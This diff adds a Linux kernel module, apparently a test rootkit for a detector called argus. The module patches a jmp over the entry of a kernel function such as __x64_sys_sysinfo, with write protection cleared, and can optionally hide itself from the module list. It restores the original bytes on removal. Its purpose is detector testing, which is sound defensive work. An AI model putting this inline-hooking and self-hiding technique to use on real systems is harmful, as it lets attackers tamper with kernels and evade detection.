@@ -1,0 +1,99 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * hookinl - a test rootkit for argus's Kernel Text Modified: an inline
+ * hook, a jmp written over the first bytes of a kernel function.
+ *
+ * insmod hookinl.ko [sym=__x64_sys_sysinfo] [at=0] [hide=0]
+ * writes "jmp hook" (e9 rel32) at sym+at, with CR0.WP cleared, as inline
+ * hooking rootkits do; the hook counts its calls (parameter hits) and
+ * returns -EPERM (the function's own first bytes are gone).  at=0 writes
+ * over the endbr64 and the ftrace site; at=4 (past the endbr64) over the
+ * ftrace site alone; at=9 just after it, into the function's own code.
+ * With hide=1 the module then hides itself (rkit.h).
+ *
+ * rmmod (or echo 1 >/proc/hookinl when hidden) puts the bytes back.  For
+ * testing only; loaded in a disposable test guest.
+ */
+#include <linux/proc_fs.h>
+
+#include "rkit.h"
+
+static char *sym = "__x64_sys_sysinfo";
+module_param(sym, charp, 0444);
+static int at;
+module_param(at, int, 0444);
+static int hide;
+module_param(hide, int, 0444);
+static ulong hits;
+module_param(hits, ulong, 0444);
+static ulong site, handler;	/* for the test */
+module_param(site, ulong, 0444);
+module_param(handler, ulong, 0444);
+
+static u8 saved[5];
+static bool patched;
+
+static long hook(const struct pt_regs *regs)
+{
+	hits++;
+	return -EPERM;
+}
+
+static void unpatch(void)
+{
+	if (patched)
+		rkit_poke((void *)site, saved, sizeof(saved));
+	patched = false;
+}
+
+static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
+{
+	unpatch();
+	rkit_unhide();
+	pr_info("hookinl: bytes put back, module listed\n");
+	return len;
+}
+
+static const struct proc_ops ctl_ops = {
+	.proc_write = ctl_write,
+};
+
+static int __init hookinl_init(void)
+{
+	unsigned long fn = rkit_lookup(sym);
+	u8 jmp[5] = { 0xe9 };
+	long rel;
+
+	if (!fn)
+		return -ENOENT;
+	site = fn + at;
+	handler = (ulong)hook;
+	rel = (long)hook - (long)(site + 5);
+	if (rel != (s32)rel)
+		return -ERANGE;
+	*(s32 *)(jmp + 1) = (s32)rel;
+	memcpy(saved, (void *)site, sizeof(saved));
+	if (hide && !proc_create("hookinl", 0200, NULL, &ctl_ops))
+		return -ENOMEM;
+	rkit_poke((void *)site, jmp, sizeof(jmp));
+	patched = true;
+	pr_info("hookinl: %s+%d: jmp %px\n", sym, at, hook);
+	if (hide && rkit_hide()) {
+		unpatch();
+		remove_proc_entry("hookinl", NULL);
+		return -ENOENT;
+	}
+	return 0;
+}
+
+static void __exit hookinl_exit(void)
+{
+	unpatch();
+	if (hide)
+		remove_proc_entry("hookinl", NULL);
+}
+
+module_init(hookinl_init);
+module_exit(hookinl_exit);
+MODULE_LICENSE("GPL");
+MODULE_DESCRIPTION("argus test rootkit: an inline jmp at a kernel function's entry");
